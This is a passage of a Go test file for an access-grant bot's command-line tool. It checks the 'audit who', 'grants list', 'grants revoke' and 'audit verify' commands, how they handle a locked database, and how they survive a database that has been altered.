		{"2026-11-22T09:01:00Z", []string{s.alice}},         // the instant of the grant
		{"2026-11-22T09:05:00Z", []string{s.alice}},         // during alice's grant
		{"2026-11-22T09:20:00Z", []string{s.alice, s.dave}}, // both, in grant order
		{"2026-11-22T10:29:59+01:00", []string{s.alice, s.dave}},
		{"2026-11-22T09:30:00Z", []string{s.alice}}, // dave revoked early at 09:30
		{"2026-11-22T10:30:00Z", []string{s.alice}}, // dave's grant would have lasted to 10:11
		{"2026-11-22T11:01:30Z", []string{s.alice}}, // past alice's expiry, before the sweep removed it
		{"2026-11-22T11:02:00Z", nil},               // the sweep revoked it
		{"2026-11-23", nil},
	} {
		if got := whoIDs(t, cliResource, "--at", tc.at); !slices.Equal(got, append([]string{}, tc.want...)) {
			t.Errorf("audit who %s --at %s = %v, want %v", cliResource, tc.at, got, tc.want)
		}
	}
	// The flag may come first; the default instant is now, long after.
	if got := whoIDs(t, "--at", "2026-11-22T09:20:00Z", cliResource); len(got) != 2 {
		t.Errorf("audit who --at T RESOURCE = %v", got)
	}
	if got := whoIDs(t, cliResource); len(got) != 0 {
		t.Errorf("audit who now = %v, want nobody", got)
	}
	if got := whoIDs(t, "other", "--at", "2026-11-22T09:20:00Z"); len(got) != 0 {
		t.Errorf("audit who other = %v, want nobody", got)
	}
	code, out, _ := runCLI(t, "audit", "who", cliResource, "--at", "2026-11-22T09:20:00Z")
	for _, want := range []string{"2 holder(s)", "alice", "dave", "U0BOB", "2026-11-22T09:30:00Z"} {
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("audit who output lacks %q:\n%s", want, out)
		}
	}
	for _, args := range [][]string{{}, {"--at", "noon", cliResource}, {cliResource, "--at", "noon"}, {cliResource, "extra"}} {
		if code, _, errOut := runCLI(t, append([]string{"audit", "who"}, args...)...); code != 2 {
			t.Errorf("audit who %v = %d, %q; want 2", args, code, errOut)
		}
	}
}

// TestAuditWhoReadsTheIndex: audit who answers from grants_by_resource and
// the records it names, so it still answers with the audit log emptied
// and another resource's request unreadable, which a scan of either would
// trip over.
func TestAuditWhoReadsTheIndex(t *testing.T) {
	f := newCLIFixture(t)
	s := f.story()
	other := f.submitFor(20*time.Minute, "U0CAROL", "other", time.Hour, "unrelated")
	f.approve(21*time.Minute, other)
	f.close()
	editBolt(t, f.dbPath, func(tx *bbolt.Tx) error {
		if err := tx.DeleteBucket([]byte("audit")); err != nil {
			return err
		}
		if _, err := tx.CreateBucket([]byte("audit")); err != nil {
			return err
		}
		return tx.Bucket([]byte("requests")).Put([]byte(other), []byte("{not json"))
	})
	if got := whoIDs(t, cliResource, "--at", "2026-11-22T09:20:00Z"); !slices.Equal(got, []string{s.alice, s.dave}) {
		t.Errorf("audit who = %v, want alice's and dave's grants", got)
	}
}

func TestGrantsListAndRevoke(t *testing.T) {
	f := newCLIFixture(t)
	s := f.story()
	carol := f.submit(3*time.Hour, "U0CAROL", 4*time.Hour, "month-end payroll run")
	f.approve(3*time.Hour+time.Minute, carol)
	erin := f.submit(3*time.Hour+2*time.Minute, "U0ERIN", time.Hour, "waiting for bob")
	f.close()

	code, out, errOut := runCLI(t, "grants", "list")
	if code != 0 {
		t.Fatalf("grants list = %d, %q", code, errOut)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 3 || !strings.HasPrefix(lines[0], "ID") {
		t.Fatalf("grants list printed\n%s\nwant a header and two rows", out)
	}
	for i, want := range [][]string{
		{carol, "active", cliResource, "U0CAROL", "carol", "U0BOB", "2026-11-22T16:01:00Z"},
		{erin, "pending", cliResource, "U0ERIN", "erin", "-"},
	} {
		if got := strings.Fields(lines[i+1]); !slices.Equal(got, want) {
			t.Errorf("grants list row %d = %q, want %q", i+1, got, want)
		}
	}
	if strings.Contains(out, s.alice) || strings.Contains(out, s.dave) {
		t.Errorf("grants list shows ended grants:\n%s", out)
	}

	code, out, errOut = runCLI(t, "grants", "revoke", carol)
	if code != 0 || !strings.Contains(out, carol+": revoked (carol of "+cliResource+" for U0CAROL)") {
		t.Fatalf("grants revoke = %d, %q, %q", code, out, errOut)
	}
	// The policy's exec plugin was asked to revoke carol's access.
	log, err := os.ReadFile(f.execLog)
	if err != nil {
		t.Fatalf("the exec plugin was not run: %v", err)
	}
	if !strings.HasPrefix(string(log), "revoke\n") || !strings.Contains(string(log), `"identity":"carol"`) || !strings.Contains(string(log), `"request_id":"`+carol+`"`) {
		t.Errorf("the exec plugin got\n%s", log)
	}
	evs := events(t, f.dbPath)
	last := evs[len(evs)-2:]
	operator := approvals.OperatorAs(osUser(os.Getuid()))
	if last[0].Action != approvals.ActionRevokeAsked || last[0].Actor != operator || last[1].Action != approvals.ActionRevoked || last[1].RequestID != carol {
		t.Errorf("the log ends with %+v", last)
	}
	if code, _, errOut := runCLI(t, "audit", "verify"); code != 0 {
		t.Errorf("audit verify after grants revoke = %d, %q", code, errOut)
	}

	// Revoking again changes nothing; the pending request is cancelled.
	if code, out, _ := runCLI(t, "grants", "revoke", carol); code != 0 || !strings.Contains(out, carol+": revoked") {
		t.Errorf("second grants revoke = %d, %q", code, out)
	}
	if code, out, errOut := runCLI(t, "grants", "revoke", erin); code != 0 || !strings.Contains(out, erin+": cancelled") {
		t.Errorf("grants revoke of a pending request = %d, %q, %q", code, out, errOut)
	}
	if n := len(events(t, f.dbPath)); n != len(evs)+1 {
		t.Errorf("the log has %d events, want %d (one for the cancel)", n, len(evs)+1)
	}
	if code, out, _ := runCLI(t, "grants", "list"); code != 0 || strings.Count(strings.TrimSpace(out), "\n") != 0 {
		t.Errorf("grants list after the revokes = %d,\n%s\nwant the header only", code, out)
	}
	if code, _, errOut := runCLI(t, "grants", "revoke", "ar-nosuchid"); code != 1 || !strings.Contains(errOut, "there is no request ar-nosuchid") {
		t.Errorf("grants revoke of an unknown ID = %d, %q", code, errOut)
	}
	for _, args := range [][]string{{"grants"}, {"grants", "revoke"}, {"grants", "list", "x"}, {"grants", "nuke"}} {
		if code, _, _ := runCLI(t, args...); code != 2 {
			t.Errorf("%v = %d, want 2", args, code)
		}
	}
}

// TestCLIWhileServing: the server holds bbolt's exclusive lock, so every
// operator command fails quickly, saying what to do instead, and changes
// nothing.
func TestCLIWhileServing(t *testing.T) {
	f := newCLIFixture(t)
	s := f.story()
	// f.db stays open, as `accessbot serve` would hold it.
	for _, args := range [][]string{
		{"audit", "verify"},
		{"audit", "export", "--format", "csv"},
		{"audit", "who", cliResource},
		{"grants", "list"},
		{"grants", "revoke", s.alice},
	} {
		start := time.Now()
		code, out, errOut := runCLI(t, args...)
		elapsed := time.Since(start)
		t.Logf("%v failed after %s", args, elapsed.Round(time.Millisecond))
		if code != 1 || out != "" {
			t.Errorf("%v while serving = %d, stdout %q", args, code, out)
		}
		for _, want := range []string{"locked by another process", "accessbot serve", "/access revoke ID", "backup copy"} {
			if !strings.Contains(errOut, want) {
				t.Errorf("%v while serving: stderr %q lacks %q", args, errOut, want)
			}
		}
		if elapsed > 10*time.Second {
			t.Errorf("%v took %s to give up; it should take about a second", args, elapsed)
		}
	}
	f.close()
	if code, _, errOut := runCLI(t, "audit", "verify"); code != 0 {
		t.Errorf("audit verify once the server is gone = %d, %q", code, errOut)
	}
}

func TestAuditVerifyEmptyLog(t *testing.T) {
	f := newCLIFixture(t)
	f.close()
	if code, out, errOut := runCLI(t, "audit", "verify"); code != 0 || out != "audit log intact: 0 records (empty)\n" {
		t.Errorf("audit verify of an empty log = %d, %q, %q", code, out, errOut)
	}
	if code, _, errOut := runCLI(t, "audit", "verify", "--expect-head", "abc@1"); code != 1 || !strings.Contains(errOut, "the log ends at record 0") {
		t.Errorf("audit verify --expect-head of an empty log = %d, %q", code, errOut)
	}
}

// TestGrantsRevokeWhileGranting: a grant the server has not finished (a
// crash between "granting" and "granted") cannot be revoked from the CLI,
// and the message says what happens to it.
func TestGrantsRevokeWhileGranting(t *testing.T) {
	f := newCLIFixture(t)
	id := f.submit(0, "U0CAROL", time.Hour, "month-end payroll run")
	f.approve(time.Minute, id)
	f.close()
	editBolt(t, f.dbPath, func(tx *bbolt.Tx) error {
		b := tx.Bucket([]byte("requests"))
		v := bytes.Replace(b.Get([]byte(id)), []byte(`"status":"active"`), []byte(`"status":"granting"`), 1)
		return b.Put([]byte(id), v)
	})
	before := len(events(t, f.dbPath))
	code, _, errOut := runCLI(t, "grants", "revoke", id)
	if code != 1 || !strings.Contains(errOut, id+" is granting: accessbot serve completes") {
		t.Errorf("grants revoke of a grant in progress = %d, %q", code, errOut)
	}
	if n := len(events(t, f.dbPath)); n != before {
		t.Errorf("the log grew from %d to %d events", before, n)
	}
}
